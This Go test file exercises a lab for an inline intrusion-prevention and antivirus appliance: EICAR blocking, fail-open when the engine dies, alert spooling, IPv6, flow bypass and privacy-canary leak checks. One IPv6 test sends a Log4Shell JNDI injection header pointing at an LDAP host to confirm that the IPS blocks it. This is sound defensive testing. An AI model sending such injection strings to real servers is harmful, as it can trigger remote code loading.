//go:build linux

package lab

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// The lab tests run the real binaries in network namespaces: utmd inline
// on NFQUEUE, the monitor with its embedded JetStream, labhost as client
// and servers. They need root. UTM_BIN names a directory holding utmd,
// monitor and labhost (make test passes bin/); without it they are built
// into a temporary directory.

var binDir string

func TestMain(m *testing.M) {
	code := func() int {
		if os.Geteuid() != 0 {
			fmt.Println("lab tests skipped: they need root (network namespaces, iptables, NFQUEUE)")
			return m.Run()
		}
		binDir = os.Getenv("UTM_BIN")
		if binDir == "" {
			tmp, err := os.MkdirTemp("", "utm-lab-bin")
			if err != nil {
				fmt.Println(err)
				return 1
			}
			defer os.RemoveAll(tmp)
			for name, pkg := range map[string]string{
				"utmd": "../../firmware/cmd/utmd", "monitor": "../../telemetry/cmd/monitor", "labhost": "../labhost",
			} {
				out, err := exec.Command("go", "build", "-o", filepath.Join(tmp, name), pkg).CombinedOutput()
				if err != nil {
					fmt.Printf("building %s: %v\n%s", name, err, out)
					return 1
				}
			}
			binDir = tmp
		}
		binDir, _ = filepath.Abs(binDir)
		return m.Run()
	}()
	os.Exit(code)
}

// newLab builds a lab with the monitor, servers and utmd running, torn
// down when the test ends. On failure the logs are copied into the test
// output.
func newLab(t *testing.T) *Lab {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Skip("needs root")
	}
	dir := t.TempDir()
	l, err := New(dir, binDir)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		l.Teardown()
		if t.Failed() {
			for _, name := range []string{"utmd", "monitor", "labhost"} {
				b, _ := os.ReadFile(filepath.Join(dir, name+".log"))
				if len(b) > 8000 {
					b = b[len(b)-8000:]
				}
				t.Logf("--- %s.log (tail)\n%s", name, b)
			}
		}
		assertCleanedUp(t)
	})
	for _, step := range []func() error{l.StartMonitor, l.StartServers, func() error { return l.StartUTMD() }} {
		if err := step(); err != nil {
			t.Fatal(err)
		}
	}
	return l
}

// assertCleanedUp checks that Teardown left no namespace, link or process.
func assertCleanedUp(t *testing.T) {
	out, _ := exec.Command("ip", "netns", "list").Output()
	for _, ns := range []string{NSClient, NSBox, NSInet} {
		if strings.Contains(string(out), ns) {
			t.Errorf("namespace %s left behind after teardown", ns)
		}
	}
	if exec.Command("ip", "link", "show", HostLink).Run() == nil {
		t.Errorf("link %s left behind after teardown", HostLink)
	}
	if out, err := exec.Command("pgrep", "-f", "--nats-listen "+natsListen).Output(); err == nil {
		t.Errorf("monitor process left behind: %s", out)
	}
}

type testWriter struct{ t *testing.T }

func (w testWriter) Write(p []byte) (int, error) {
	w.t.Log(strings.TrimRight(string(p), "\n"))
	return len(p), nil
}

// TestLabFourCases is `make demo` as a test: the five cases behave, every
// alert reaches the monitor with its stars, and no payload canary reaches
// an alert, a log, the spool, the monitor's store or the portal.
func TestLabFourCases(t *testing.T) {
	l := newLab(t)
	w := WatchAlerts(testWriter{t})
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	res := l.RunCases(ctx, w, testWriter{t})
	w.Stop()
	if !PrintSummary(testWriter{t}, res) {
		t.Error("a case did not behave as expected (summary above)")
	}
	want := map[int]int{SIDAV: 3, SIDCNCDNS: 2, SIDCNCLearned: 3, SIDLog4Shell: 2, SIDAVMail: 3, SIDIncident: 3}
	for _, a := range w.All() {
		if a.BoxID != BoxID {
			t.Errorf("alert sid %d from box %q, want %q", a.Alert.SignatureID, a.BoxID, BoxID)
		}
		stars, ok := want[a.Alert.SignatureID]
		if !ok {
			t.Errorf("unexpected alert sid %d %q", a.Alert.SignatureID, a.Alert.Signature)
			continue
		}
		if a.Stars != stars {
			t.Errorf("sid %d has %d stars, want %d", a.Alert.SignatureID, a.Stars, stars)
		}
	}
	// The box's own eve.json has what the monitor got.
	eve, err := os.ReadFile(filepath.Join(l.Dir, "box-log", "eve.json"))
	if err != nil {
		t.Fatal(err)
	}
	for sid := range want {
		if !strings.Contains(string(eve), fmt.Sprintf(`"signature_id":%d`, sid)) {
			t.Errorf("eve.json has no alert with sid %d", sid)
		}
	}
	// The next heartbeat carries the counters after all cases: the box is
	// online, and every byte of the downloads was inspected (a stream that
	// overflowed had a hole: packets that passed the box uninspected).
	casesDone := time.Now()
	type box struct {
		BoxID         string    `json:"box_id"`
		Online        bool      `json:"online"`
		LastHeartbeat time.Time `json:"last_heartbeat"`
		Heartbeat     struct {
			Counters map[string]uint64 `json:"counters"`
		} `json:"heartbeat"`
	}
	var list []box
	err = WaitFor(10*time.Second, "a heartbeat after the cases", func() bool {
		b, err := Get(PortalURL + "api/boxes")
		if err != nil || json.Unmarshal(b, &list) != nil {
			return false
		}
		return len(list) == 1 && list[0].LastHeartbeat.After(casesDone)
	})
	if err != nil {
		t.Fatalf("%v: boxes %+v", err, list)
	}
	if list[0].BoxID != BoxID || !list[0].Online {
		t.Errorf("the portal shows %+v, want %s online", list[0], BoxID)
	}
	c := list[0].Heartbeat.Counters
	if c["bytes"] < 5_000_000 || c["stream_overflow"] != 0 || c["nfq_read_errors"] != 0 || c["truncated"] != 0 {
		t.Errorf("box counters: bytes %d (want > 5 MB), stream_overflow %d, nfq_read_errors %d, truncated %d (want 0)",
			c["bytes"], c["stream_overflow"], c["nfq_read_errors"], c["truncated"])
	}
	// Every packet the steering rules queued reached the engine.
	if c["steer_steered"] == 0 || c["uninspected"] != 0 || c["nfq_id_gaps"] != 0 {
		t.Errorf("steered %d, uninspected %d, id gaps %d: packets passed the box uninspected", c["steer_steered"], c["uninspected"], c["nfq_id_gaps"])
	}
	// The canary check must be able to fail: the lab host's log, which is
	// the internet's and not ours, does hold one.
	if b, _ := os.ReadFile(filepath.Join(l.Dir, "labhost.log")); len(b) == 0 {
		t.Error("labhost.log is empty")
	}
	leaks, err := l.ScanLeaks()
	if err != nil {
		t.Fatal(err)
	}
	for _, lk := range leaks {
		t.Errorf("privacy leak: %q in %s", lk.Canary, lk.Where)
	}
}

// TestScanLeaksFindsPlantedCanary proves the privacy scan can fail.
func TestScanLeaksFindsPlantedCanary(t *testing.T) {
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "utmd.log"), []byte("level=INFO msg=x hdr="+CanaryRequestHeader+"\n"), 0o644)
	os.WriteFile(filepath.Join(dir, "labhost.log"), []byte(CanaryPage), 0o644)
	l := &Lab{Dir: dir}
	leaks, _ := l.ScanLeaks() // the portal is not running: the error is expected
	if len(leaks) != 1 || leaks[0].Canary != CanaryRequestHeader {
		t.Fatalf("leaks = %+v, want exactly the planted request-header canary in utmd.log", leaks)
	}
}

// TestLabFailOpen kills utmd in the middle of a download: the office
// keeps its internet (the download completes byte-identical through
// --queue-bypass), and once utmd is back it inspects again and reports
// that it had died.
func TestLabFailOpen(t *testing.T) {
	l := newLab(t)
	w := WatchAlerts(nil)
	defer w.Stop()
	const size = 20 << 20
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	type result struct {
		r   FetchResult
		err error
	}
	done := make(chan result, 1)
	go func() {
		r, err := l.Fetch(ctx, fmt.Sprintf("http://%s/big.bin?size=%d", WebDomain, size), "--rate", "4000000", "--timeout", "60s")
		done <- result{r, err}
	}()
	time.Sleep(1500 * time.Millisecond)
	if err := l.KillUTMD(); err != nil {
		t.Fatal(err)
	}
	res := <-done
	if res.err != nil || !res.r.Complete || res.r.SHA256 != SHA256(BigBody(size)) {
		t.Fatalf("download across the engine's death: %+v %v; want the complete file", res.r, res.err)
	}
	if res.r.Millis < 3000 {
		t.Fatalf("the download took %d ms: it ended before utmd was killed, the test proves nothing", res.r.Millis)
	}
	// With no engine at all, new connections still pass (uninspected).
	r, err := l.Fetch(ctx, "http://"+WebDomain+"/index.html", "--timeout", "5s")
	if err != nil || r.SHA256 != SHA256(Page()) {
		t.Fatalf("browsing while utmd is down: %+v %v", r, err)
	}

	from := w.Count()
	if err := l.StartUTMD(); err != nil {
		t.Fatal(err)
	}
	a, ok := w.WaitSID(from, SIDRestart, 15*time.Second)
	if !ok {
		t.Fatal("no restart alert (sid 2230001) after utmd came back")
	}
	if a.Stars != 2 {
		t.Errorf("restart alert has %d stars, want 2", a.Stars)
	}
	r, err = l.Fetch(ctx, "http://"+WebDomain+"/eicar.com", "--timeout", "5s")
	if err != nil || r.Complete || r.SHA256 == SHA256(EICAR) {
		t.Fatalf("EICAR after restart: %+v %v; want the transfer cut", r, err)
	}
	if _, ok := w.WaitSID(from, SIDAV, 10*time.Second); !ok {
		t.Fatal("no AV alert after restart")
	}
}

// TestLabMonitorOutage: while the monitor is down the box keeps
// protecting and spools its alerts; when the monitor returns each
// arrives exactly once.
func TestLabMonitorOutage(t *testing.T) {
	l := newLab(t)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	if err := l.StopMonitor(); err != nil {
		t.Fatal(err)
	}
	const n = 3
	for i := 0; i < n; i++ {
		r, err := l.Fetch(ctx, "http://"+WebDomain+"/eicar.com", "--timeout", "5s")
		if err != nil || r.Complete {
			t.Fatalf("EICAR %d while the monitor is down: %+v %v; want the transfer cut", i, r, err)
		}
	}
	if err := l.StartMonitor(); err != nil {
		t.Fatal(err)
	}
	// The first download is cut when the file completes (SIDAV); the
	// retries of the same URL are refused at their request (SIDAVRetry).
	count := func() (av int) {
		recs, _ := Alerts(0)
		for _, r := range recs {
			if id := r.Alert.Alert.SignatureID; id == SIDAV || id == SIDAVRetry {
				av++
			}
		}
		return av
	}
	if err := WaitFor(20*time.Second, fmt.Sprintf("%d spooled AV alerts at the monitor", n), func() bool { return count() >= n }); err != nil {
		t.Fatal(err)
	}
	// Give duplicates the chance to show up: a heartbeat round trip later
	// the spool is drained and nothing else may arrive.
	time.Sleep(3 * time.Second)
	if got := count(); got != n {
		t.Fatalf("monitor holds %d AV alerts, want exactly %d", got, n)
	}
}

// TestLabIPv6 runs the AV, IPS and benign cases over IPv6 end to end.
func TestLabIPv6(t *testing.T) {
	l := newLab(t)
	w := WatchAlerts(nil)
	defer w.Stop()
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()

	r, err := l.Fetch(ctx, "http://"+WebDomain6+"/eicar.com", "--timeout", "5s")
	if err != nil || r.Complete || r.SHA256 == SHA256(EICAR) {
		t.Fatalf("EICAR over IPv6: %+v %v; want the transfer cut", r, err)
	}
	a, ok := w.WaitSID(0, SIDAV, 10*time.Second)
	if !ok || a.Stars != 3 || a.SrcIP != WebIP6 || a.DestIP != ClientIP6 {
		t.Fatalf("AV alert over IPv6: %+v (found %v); want ★★★ from %s to %s", a, ok, WebIP6, ClientIP6)
	}

	from := w.Count()
	r, err = l.Fetch(ctx, "http://"+WebDomain6+"/search", "--timeout", "3s", "--header", "X-Api-Version: ${jndi:ldap://198.18.2.66/a}")
	if err != nil || r.Status != 0 {
		t.Fatalf("Log4Shell over IPv6 was answered: %+v %v", r, err)
	}
	if _, ok := w.WaitSID(from, SIDLog4Shell, 10*time.Second); !ok {
		t.Fatal("no IPS alert for Log4Shell over IPv6")
	}

	from = w.Count()
	const size = 2_000_000
	r, err = l.Fetch(ctx, fmt.Sprintf("http://%s/big.bin?size=%d", WebDomain6, size), "--timeout", "20s")
	if err != nil || !r.Complete || r.SHA256 != SHA256(BigBody(size)) {
		t.Fatalf("benign download over IPv6: %+v %v", r, err)
	}
	time.Sleep(1500 * time.Millisecond) // an alert would have arrived by now
	if n := w.Count() - from; n != 0 {
		t.Fatalf("benign IPv6 download raised %d alerts: %+v", n, w.All()[from:])
	}
}

// TestLabEngineDeathGap measures what the office notices when utmd dies:
// a request every 20 ms through the box, utmd killed in the middle; the
// longest stretch without an answer must stay under one second.
func TestLabEngineDeathGap(t *testing.T) {
	l := newLab(t)
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	type result struct {
		r   ProbeResult
		err error
	}
	done := make(chan result, 1)
	go func() {
		r, err := l.Probe(ctx, "http://"+WebIP+"/index.html", 20*time.Millisecond, 6*time.Second)
		done <- result{r, err}
	}()
	time.Sleep(2 * time.Second)
	if err := l.KillUTMD(); err != nil {
		t.Fatal(err)
	}
	res := <-done
	if res.err != nil {
		t.Fatal(res.err)
	}
	t.Logf("probe across the engine's death: %d sent, %d answered, longest gap %d ms", res.r.Sent, res.r.OK, res.r.MaxGapMS)
	if res.r.OK < res.r.Sent*9/10 {
		t.Errorf("only %d of %d requests answered", res.r.OK, res.r.Sent)
	}
	if res.r.MaxGapMS >= 1000 {
		t.Errorf("the office's traffic stopped for %d ms when utmd died; want under 1000 ms", res.r.MaxGapMS)
	}
}

// TestLabFlowBypass: a download larger than the AV scan limit, on a
// connection that ends with it (Connection: close: no later request can
// carry another file), is scanned up to the limit, then bypassed: the
// kernel stops queueing the connection (conntrack mark), the file arrives
// byte-identical, and the counters show both sides of it.
func TestLabFlowBypass(t *testing.T) {
	l := newLab(t)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	const size = 30 << 20
	r, err := l.Fetch(ctx, fmt.Sprintf("http://%s/big.bin?size=%d", WebDomain, size), "--timeout", "60s", "--header", "Connection: close")
	if err != nil || !r.Complete || r.SHA256 != SHA256(BigBody(size)) {
		t.Fatalf("30 MiB download: %+v %v; want it complete", r, err)
	}
	done := time.Now()
	var c map[string]uint64
	err = WaitFor(10*time.Second, "a heartbeat after the download", func() bool {
		b, err := Get(PortalURL + "api/boxes")
		if err != nil {
			return false
		}
		var list []struct {
			LastHeartbeat time.Time `json:"last_heartbeat"`
			Heartbeat     struct {
				Counters map[string]uint64 `json:"counters"`
			} `json:"heartbeat"`
		}
		if json.Unmarshal(b, &list) != nil || len(list) != 1 || !list[0].LastHeartbeat.After(done) {
			return false
		}
		c = list[0].Heartbeat.Counters
		return true
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("engine saw %d packets, bypassed verdicts %d, kernel-accepted packets of bypassed connections %d, steered %d, uninspected %d",
		c["nfq_packets"], c["nfq_bypassed"], c["steer_bypassed_connections"], c["steer_steered"], c["uninspected"])
	if c["nfq_bypassed"] == 0 || c["steer_bypassed_connections"] < 100 {
		t.Errorf("the connection was not bypassed in the kernel: nfq_bypassed %d, steer_bypassed_connections %d", c["nfq_bypassed"], c["steer_bypassed_connections"])
	}
	if c["uninspected"] != 0 || c["truncated"] != 0 {
		t.Errorf("%d packets passed uninspected (fail-open), %d truncated, during a plain download", c["uninspected"], c["truncated"])
	}
}
